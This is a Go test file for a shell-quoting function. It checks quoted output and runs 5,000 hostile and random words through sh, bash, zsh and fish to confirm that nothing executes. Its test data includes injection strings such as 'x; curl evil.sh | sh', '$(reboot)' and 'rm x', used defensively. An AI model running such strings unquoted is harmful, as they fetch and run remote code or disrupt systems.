package shell

import (
	"math/rand/v2"
	"os/exec"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestQuote(t *testing.T) {
	for text, want := range map[string]string{
		"":                      `''`,
		"alice@example.com":     `alice@example.com`,
		"-path=corp/people":     `-path=corp/people`,
		"/CN=alice/O=on-call":   `/CN=alice/O=on-call`,
		"=cmd":                  `'=cmd'`,
		"a b":                   `'a b'`,
		"#2":                    `'#2'`,
		"~root":                 `'~root'`,
		"it's":                  `'it'"'"'s'`,
		`on\+call`:              `'on\+call'`,
		`\`:                     `"\\"`,
		`a\'; rm x #`:           `'a'"\\""'"'; rm x #'`,
		"x; curl evil.sh | sh":  `'x; curl evil.sh | sh'`,
		"$(reboot)`reboot`":     "'$(reboot)`reboot`'",
		"\x1b[2Jcorp":           `'"\x1b[2Jcorp"'`,
		"two\nlines":            `'"two\nlines"'`,
		"right\u202eleft":       `'"right\u202eleft"'`,
		"two  blanks":           `'"two  blanks"'`,
		"no text: \xff":         `'"no text: \xff"'`,
		"Ünïcode":               `'Ünïcode'`,
		"!history":              `'!history'`,
		"{a,b}*":                `'{a,b}*'`,
		"it's \n; rm '$(x)' \\": `'"it'"'"'s \n; rm '"'"'$(x)'"'"' '"\\"'\"'`,
	} {
		if got := Quote(text); got != want {
			t.Errorf("Quote(%q)\ngot  %s\nwant %s", text, got, want)
		}
	}
}

// TestQuoteInShells: real shells read one word, and run nothing. What is pasteable they give back as it was.
func TestQuoteInShells(t *testing.T) {
	shells := [][]string{{"sh"}}
	for _, other := range [][]string{{"bash"}, {"zsh", "-f"}, {"fish", "-N"}} {
		if _, err := exec.LookPath(other[0]); err == nil {
			shells = append(shells, other)
		}
	}
	words := hostileWords()
	for _, sh := range shells {
		t.Run(sh[0], func(t *testing.T) {
			var script, want strings.Builder
			for _, word := range words {
				quoted := Quote(word)
				script.WriteString("printf '<%s>\\n' " + quoted + "\n")
				if !Pasteable(word) {
					if !Pasteable(strings.ReplaceAll(quoted, "  ", " ")) {
						t.Errorf("Quote(%q) = %q, which no terminal shows", word, quoted)
					}
					word = strconv.Quote(word)
				}
				want.WriteString("<" + word + ">\n")
			}
			run := exec.Command(sh[0], sh[1:]...)
			run.Stdin, run.Dir = strings.NewReader(script.String()), t.TempDir()
			got, err := run.CombinedOutput()
			if err != nil {
				t.Error(err)
			}
			if diff := cmp.Diff(strings.Split(want.String(), "\n"), strings.Split(string(got), "\n")); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// hostileWords are some that were thought of, and many that were drawn.
func hostileWords() []string {
	words := []string{"", "-n", "--", "x; curl evil.sh | sh", "$(touch x)", "`touch x`", "it's", `\`, `\\`, `\'`, `'\''`, `'\`, `"`, "*", "~", "#", "!!", "&", "<(touch x)",
		"\n", "a\nb", "\r", "\t", "\x00", "\x1b]0;t\a", "\x7f", "\u2028", "\u202e", "\xff\xfe", "ü", "’; touch x", "%s%n", "two  blanks", "=ls", "{a,b}"}
	const alphabet = `'"\$` + "`" + `;|&<>()*?[]{}~#!=%^ ab-` + "\n\x1bü"
	letters := []rune(alphabet)
	random := rand.New(rand.NewPCG(1, 2))
	for range 5000 {
		word := make([]rune, random.IntN(12))
		for i := range word {
			word[i] = letters[random.IntN(len(letters))]
		}
		words = append(words, string(word))
	}
	return words
}
